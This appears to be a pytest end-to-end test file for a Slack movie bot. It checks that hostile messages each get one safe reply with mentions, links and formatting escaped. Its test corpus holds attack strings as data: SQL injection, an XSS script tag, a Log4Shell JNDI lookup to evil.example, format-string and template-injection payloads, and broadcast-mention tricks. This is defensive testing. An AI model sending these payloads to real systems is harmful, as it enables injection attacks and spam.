"""A corpus of hostile and odd messages: each gets exactly one clear reply, within Slack's
limits, with nothing the user typed turned into a mention, a link or formatting."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from tests.e2e import slack_requests as sr

HOSTILE = [
    "<!channel>",
    "<!here> movies like heat",
    "<!everyone> alien",
    "<!subteam^S0EVIL|@admins> heat",
    "@channel heat",
    "@here alien",
    "@everyone the matrix",
    "<@U0EVIL> heat",
    "movies like <@U0EVIL|admin> *please*",
    "<#C0EVIL|general>",
    "<http://evil.example|click me>",
    "<https://evil.example>",
    "*pwned*",
    "_pwned_",
    "~pwned~",
    "`pwned`",
    "```pwned```",
    "> pwned quote",
    "&lt;!channel&gt;",
    "&amp;&lt;&gt; & < >",
    "<script>alert(1)</script>",
    "'; DROP TABLE movies; --",
    "Robert'); DROP TABLE marks;--",
    "%s%s%s%n",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "\x00\x01\x02\x1b[31m heat",
    "heat\r\n<!channel>\n*pwned*",
    "\u202eheat \u2066alien\u2069",
    "\u0627\u0644\u0639\u0631\u0627\u0628",  # Arabic (RTL)
    "\u05e9\u05e8 \u05d4\u05d8\u05d1\u05e2\u05d5\u05ea",  # Hebrew (RTL)
    "\U0001f3ac\U0001f37f movies like \U0001f988",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 300,
    "Z\u0334\u0321\u0322a\u0336l\u0337g\u0335o\u0335 heat",
    "\t\t\t",
    "?",
    "tt0133093",
    "tt9999999999",
    "https://www.imdb.com/title/tt0113277/",
    "<https://www.imdb.com/title/tt0078748/>",
    "x" * 40_000,
    "movies like " + "<!channel>*pwned*" * 2000,
    "\ud800 lone surrogate heat",
    "null",
    "[]{}",
    "<<<>>> | <|>",
    "\\*pwned\\*",
    "_*~`" * 200,
    "the godfather " + "\u200b" * 1000,
]

_ALLOWED_LINK = re.compile(r"^<https://www\.imdb\.com/[^|>\s]*\|[^<>]*>$")
_FORMATTED = ("*pwned*", "_pwned_", "~pwned~", "`pwned`", "*please*")


def _mrkdwn_texts(message: dict[str, Any]) -> list[str]:
    texts = [str(message.get("text") or "")]

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn":
                texts.append(str(node.get("text", "")))
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(message.get("blocks", []))
    return texts


def _plain_texts(message: dict[str, Any]) -> list[str]:
    found: list[str] = []

    def walk(node: Any, limit: int) -> None:
        if isinstance(node, dict):
            if node.get("type") == "plain_text":
                found.append(str(node.get("text", "")))
                assert len(node["text"]) <= limit
            for key, value in node.items():
                walk(
                    value,
                    75 if key == "text" and node.get("type") in ("button", "option") else 3000,
                )
        elif isinstance(node, list):
            for value in node:
                walk(value, limit)

    walk(message.get("blocks", []), 3000)
    return found


def assert_safe(message: dict[str, Any]) -> None:
    blocks = message.get("blocks", [])
    assert 0 < len(blocks) <= 50
    ids = {b.get("block_id") for b in blocks}
    assert ids & {"seed", "unresolved", "help", "chat", "no_context", "nothing_fits"}, (
        f"no clear answer in {json.dumps(blocks)[:300]}"
    )
    for text in _mrkdwn_texts(message):
        assert len(text) <= 3000
        for token in re.findall(r"<[^<>]*>", text):
            assert _ALLOWED_LINK.match(token), f"unescaped markup {token!r} in {text[:200]!r}"
        for formatted in _FORMATTED:
            assert formatted not in text, f"{formatted} would render as formatting"
        assert not re.search(r"@(channel|here|everyone)\b", text), "a bare broadcast word"
        assert not re.search(r"[\x00-\x09\x0b-\x1f\u202a-\u202e\u2066-\u2069]", text)
    for text in _plain_texts(message):
        assert not re.search(r"[\x00-\x1f\u202e]", text)


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 40
    assert len(set(HOSTILE)) == len(HOSTILE)


@pytest.mark.parametrize("text", HOSTILE, ids=[f"h{i:02d}" for i in range(len(HOSTILE))])
def test_mention_with_hostile_text_gets_one_safe_reply(lambda_bot, text: str) -> None:
    ack = lambda_bot.event(sr.mention(text))
    assert ack["statusCode"] == 200
    posts = lambda_bot.slack_api.calls("chat.postMessage")
    assert len(posts) == 1, "exactly one reply"
    assert_safe(posts[0])


def test_slash_command_with_hostile_text_gets_one_safe_reply_each(lambda_bot) -> None:
    for text in HOSTILE[::4]:
        lambda_bot.slack_api.clear()
        if not text.strip():
            continue
        ack = lambda_bot.command(text)
        assert ack["statusCode"] == 200
        replies = lambda_bot.slack_api.calls("response_url") + lambda_bot.slack_api.calls(
            "views.open"
        )
        assert len(replies) == 1, f"one reply for {text[:40]!r}"
        if "blocks" in replies[0]:
            assert_safe(replies[0])


def test_typeahead_survives_hostile_text(lambda_bot) -> None:
    for text in HOSTILE[::3]:
        response = lambda_bot.options(text)
        assert response["statusCode"] == 200
        options = json.loads(response["body"])["options"]
        assert all(len(o["text"]["text"]) <= 75 for o in options)
